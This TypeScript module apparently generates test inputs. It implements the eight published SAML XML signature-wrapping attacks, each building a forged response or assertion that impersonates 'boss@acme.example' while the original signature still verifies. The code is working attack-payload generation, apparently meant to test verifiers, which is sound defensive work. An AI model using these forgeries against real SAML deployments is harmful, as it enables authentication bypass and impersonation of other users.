/**
 * The eight kinds of signature wrapping (Somorovsky et al., "On Breaking SAML", USENIX Security 2012): the signature still
 * verifies the original, and a careless reader consumes the forgery. Each takes a response of samlResponse().
 */
export const wrappings: Record<string, (xml: string) => string> = {
  "1: the signed response inside the signature of a forged one": (xml) => {
    const { head, body, signature } = responseParts(xml);
    const original = `${head}${body}`.replace(signature, "");
    const forged = evil(xml).replace(signature, withInside(signature, original));
    return forged;
  },
  "2: the signed response before the signature of a forged one": (xml) => {
    const { head, body, signature } = responseParts(xml);
    const original = `${head}${body}`.replace(signature, "");
    return evil(xml).replace(signature, `${original}${signature}`);
  },
  "3: a forged assertion before the signed one": (xml) => {
    const { assertion, forged } = assertionParts(xml);
    return xml.replace(assertion, `${forged}${assertion}`);
  },
  "4: the signed assertion inside a forged one": (xml) => {
    const { assertion, forged } = assertionParts(xml);
    return xml.replace(assertion, forged.replace("</saml2:Assertion>", `${assertion}</saml2:Assertion>`));
  },
  "5: the signature in a forged assertion, the signed one behind it": (xml) => {
    const { assertion, forged, signature } = assertionParts(xml);
    const moved = forged.replace("</saml2:Issuer>", `</saml2:Issuer>${signature}`);
    return xml.replace(assertion, `${moved}${assertion.replace(signature, "")}`);
  },
  "6: the signed assertion inside the signature of a forged one": (xml) => {
    const { assertion, forged, signature } = assertionParts(xml);
    const inside = withInside(signature, assertion.replace(signature, ""));
    return xml.replace(assertion, forged.replace("</saml2:Issuer>", `</saml2:Issuer>${inside}`));
  },
  "7: a forged assertion in the extensions": (xml) => {
    const { assertion, forged } = assertionParts(xml);
    return xml.replace(assertion, `<saml2p:Extensions>${forged}</saml2p:Extensions>${assertion}`);
  },
  "8: the signed assertion in an object of the signature of a forged one": (xml) => {
    const { assertion, forged, signature } = assertionParts(xml);
    const object = `<ds:Object>${assertion.replace(signature, "")}</ds:Object>`;
    const inside = withInside(signature, object);
    return xml.replace(assertion, forged.replace("</saml2:Issuer>", `</saml2:Issuer>${inside}`));
  },
};

function responseParts(xml: string) {
  const head = /<saml2p:Response[^>]*>/.exec(xml)?.[0] ?? "";
  const body = xml.slice(xml.indexOf(head) + head.length);
  return { head, body, signature: /<ds:Signature .*?<\/ds:Signature>/s.exec(body)?.[0] ?? "" };
}

function assertionParts(xml: string) {
  const assertion = /<saml2:Assertion .*<\/saml2:Assertion>/s.exec(xml)?.[0] ?? "";
  const signature = /<ds:Signature .*?<\/ds:Signature>/s.exec(assertion)?.[0] ?? "";
  return { assertion, signature, forged: evil(assertion).replace(signature, "") };
}

/** The same about another person, under another ID. */
function evil(xml: string): string {
  return xml.replace(/ ID="id/, ' ID="evil').replace(/>[^<]*@acme\.example</g, ">boss@acme.example<");
}

function withInside(signature: string, inside: string): string {
  return signature.replace("</ds:Signature>", `${inside}</ds:Signature>`);
}
